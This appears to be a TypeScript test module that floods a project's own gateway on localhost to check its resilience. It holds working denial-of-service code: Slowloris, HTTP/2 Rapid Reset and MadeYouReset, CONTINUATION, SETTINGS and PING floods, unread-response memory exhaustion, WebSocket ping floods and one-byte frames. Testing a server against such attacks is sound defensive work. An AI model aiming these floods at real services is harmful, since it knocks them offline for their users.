// Attacks on the web port: silent and slow sockets, and floods of HTTP/2 frames that no library would send.
import { once } from "node:events";
import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { setImmediate as breath, setTimeout as sleep } from "node:timers/promises";
import { callBlock, endHeaders, endStream, frameKind, frameOf, headerBlock, RawHttp2 } from "@pitwall/gateway/tests/support/raw-http2.ts";
import { again, type Attack } from "./hostile-attack.ts";

const sockets = 2_000;
const wave = 100;
/** Connections of a flood at once. */
const lanes = 4;
/** What is sent on a connection that does not end. */
const mostOnOne = 100_000;
const redialMs = 1_000;
const trickleMs = 1_000;
const streamsOnOne = 250;
const pingsAtOnce = 100;
const callsOfUser = 500;
const unreadBytes = 2 ** 20;
/** In MB: Node's client would give up by itself. */
const patience = { maxSessionMemory: 2_000 };
const path = "/bench.Bytes/One";

const number = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const block = ({ token }: Attack, more: Readonly<Record<string, string>> = {}): Buffer =>
  callBlock({ ":path": path, authorization: `Bearer ${token}`, ...more });

/** Dials 2,000, and those again that were ended. */
export async function silent(attack: Attack): Promise<void> {
  await hold(attack, () => undefined);
}

/** Headers that never end. */
export async function slowLoris(attack: Attack): Promise<void> {
  await hold(attack, (socket) => {
    socket.write(`POST ${path} HTTP/1.1\r\nhost: a\r\n`);
    const trickle = setInterval(() => {
      attack.did.sent++;
      socket.write("x: y\r\n");
    }, trickleMs);
    socket.once("close", () => clearInterval(trickle));
  });
}

async function hold(attack: Attack, speak: (socket: Socket) => void): Promise<void> {
  const { port, sources, signal, did } = attack;
  const held = new Set<Socket>();
  const dial = async (): Promise<void> => {
    const socket = connect({ port, host: "127.0.0.1", localAddress: sources[did.connections++ % sources.length] });
    held.add(socket);
    socket.on("error", () => undefined).resume();
    socket.once("close", () => held.delete(socket));
    await once(socket, "connect").then(
      () => speak(socket),
      () => undefined,
    );
  };
  while (!signal.aborted) {
    while (held.size < sockets && !signal.aborted) {
      const before = held.size;
      await Promise.all(Array.from({ length: Math.min(wave, sockets - held.size) }, dial));
      if (held.size <= before) break; // they are ended as fast as they come
    }
    attack.begun();
    await sleep(redialMs, undefined, { signal }).catch(() => undefined);
  }
  for (const socket of held) socket.destroy();
}

/** Sends what `next` says until the connection is ended, and then again on another one. */
async function flood(attack: Attack, begin: (client: RawHttp2) => void, next: (at: number) => Buffer, eachBreath: number): Promise<void> {
  const { port, signal, did } = attack;
  await again(attack, lanes, async (source) => {
    using client = new RawHttp2(port, source);
    begin(client);
    for (let at = 0; at < mostOnOne && !client.socket.destroyed && !signal.aborted; at++) {
      client.socket.write(next(at));
      did.sent++;
      if (at % eachBreath !== 0) continue;
      await client.flushed();
      await breath();
    }
    await Promise.race([client.closed, sleep(redialMs)]);
  });
}

/** Calls that are broken off as soon as they have begun. */
export async function rapidReset(attack: Attack): Promise<void> {
  const head = block(attack);
  const next = (at: number): Buffer =>
    Buffer.concat([
      frameOf(frameKind.headers, endHeaders | endStream, 2 * at + 1, head),
      frameOf(frameKind.reset, 0, 2 * at + 1, number(8)),
    ]);
  await flood(attack, () => undefined, next, 20);
}

/** Calls that the server must break off itself: it is shown frames that no stream may have. */
export async function madeYouReset(attack: Attack): Promise<void> {
  const head = block(attack);
  const whys: readonly ((stream: number) => Buffer)[] = [
    (stream) => frameOf(frameKind.windowUpdate, 0, stream, number(0)),
    (stream) => frameOf(frameKind.windowUpdate, 0, stream, number(0x7f_ff_ff_ff)),
    (stream) => frameOf(frameKind.data, 0, stream, Buffer.alloc(1)),
  ];
  const next = (at: number): Buffer => {
    const stream = 2 * at + 1;
    const why = whys[at % whys.length]?.(stream) ?? Buffer.alloc(0);
    return Buffer.concat([frameOf(frameKind.headers, endHeaders | endStream, stream, head), why]);
  };
  await flood(attack, () => undefined, next, 20);
}

/** One block of headers in frames without end, each of nothing. */
export async function continuation(attack: Attack): Promise<void> {
  const begin = (client: RawHttp2): void => void client.say(frameKind.headers, 0, 1, block(attack));
  await flood(attack, begin, () => frameOf(frameKind.continuation, 0, 1), 100);
}

/** One block of headers, 16 KB at a time. */
export async function headerLists(attack: Attack): Promise<void> {
  const begin = (client: RawHttp2): void => void client.say(frameKind.headers, 0, 1, block(attack));
  const next = (at: number): Buffer => frameOf(frameKind.continuation, 0, 1, headerBlock({ [`x-${at}`]: "y".repeat(16_000) }));
  await flood(attack, begin, next, 4);
}

export async function settings(attack: Attack): Promise<void> {
  const sent = frameOf(frameKind.settings, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]));
  await flood(
    attack,
    () => undefined,
    () => sent,
    100,
  );
}

export async function pings(attack: Attack): Promise<void> {
  const sent = frameOf(frameKind.ping, 0, 0, Buffer.alloc(8));
  await flood(
    attack,
    () => undefined,
    () => sent,
    100,
  );
}

/** As many calls at once as one user may have, each with an answer of a megabyte that is never read. */
export async function unread(attack: Attack): Promise<void> {
  const { port, token, sources, signal, did } = attack;
  const body = Buffer.alloc(5 + unreadBytes);
  body.writeUInt32BE(unreadBytes, 1);
  const headers = {
    ":method": "POST",
    ":path": path,
    "content-type": "application/grpc",
    te: "trailers",
    authorization: `Bearer ${token}`,
  };
  const sessions = Array.from({ length: callsOfUser / streamsOnOne }, (_, at) => {
    const createConnection = (): Socket => connect({ port, host: "127.0.0.1", localAddress: sources[at % sources.length] });
    const session = connectHttp2(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 0 }, createConnection, ...patience });
    session.on("error", () => undefined);
    return session;
  });
  for (const session of sessions) {
    did.connections++;
    for (let at = 0; at < streamsOnOne && !session.destroyed; at++) {
      session
        .request(headers)
        .on("error", () => undefined)
        .end(body);
      did.sent++;
    }
  }
  attack.begun();
  if (!signal.aborted) await once(signal, "abort");
  for (const session of sessions) session.destroy();
}

/** On WebSockets that nobody reads. */
export async function socketPings(attack: Attack): Promise<void> {
  const { port, signal, did } = attack;
  const lines = [`GET ${path} HTTP/1.1`, "host: a", "connection: Upgrade", "upgrade: websocket", "sec-websocket-version: 13"];
  const key = ["sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==", "sec-websocket-protocol: pitwall-grpc.v1"];
  const asked = `${[...lines, ...key].join("\r\n")}\r\n\r\n`;
  const ping = Buffer.concat([Buffer.from([0x89, 0xfd, 0, 0, 0, 0]), Buffer.alloc(125)]); // masked with zeros
  const many = Buffer.concat(Array.from({ length: pingsAtOnce }, () => ping));
  await again(attack, lanes, async (localAddress) => {
    const socket = connect({ port, host: "127.0.0.1", localAddress });
    socket.on("error", () => undefined);
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    socket.write(asked);
    for (let sent = 0; sent < mostOnOne && !socket.destroyed && !signal.aborted; sent += pingsAtOnce) {
      if (!socket.write(many)) await Promise.race([once(socket, "drain").catch(() => undefined), closed]);
      did.sent += pingsAtOnce;
      await breath();
    }
    socket.destroy();
    await closed;
  });
}

/** As many calls as a connection may have, each with a message that comes in frames of a byte. */
export async function smallFrames(attack: Attack): Promise<void> {
  const head = block(attack);
  const long = Buffer.from([0, 0, 1, 0, 0]); // of 64 KiB
  const next = (at: number): Buffer => {
    const byte = frameOf(frameKind.data, 0, 2 * (at % streamsOnOne) + 1, Buffer.alloc(1));
    if (at >= streamsOnOne) return byte;
    const stream = 2 * at + 1;
    return Buffer.concat([frameOf(frameKind.headers, endHeaders, stream, head), frameOf(frameKind.data, 0, stream, long)]);
  };
  await flood(attack, () => undefined, next, 100);
}
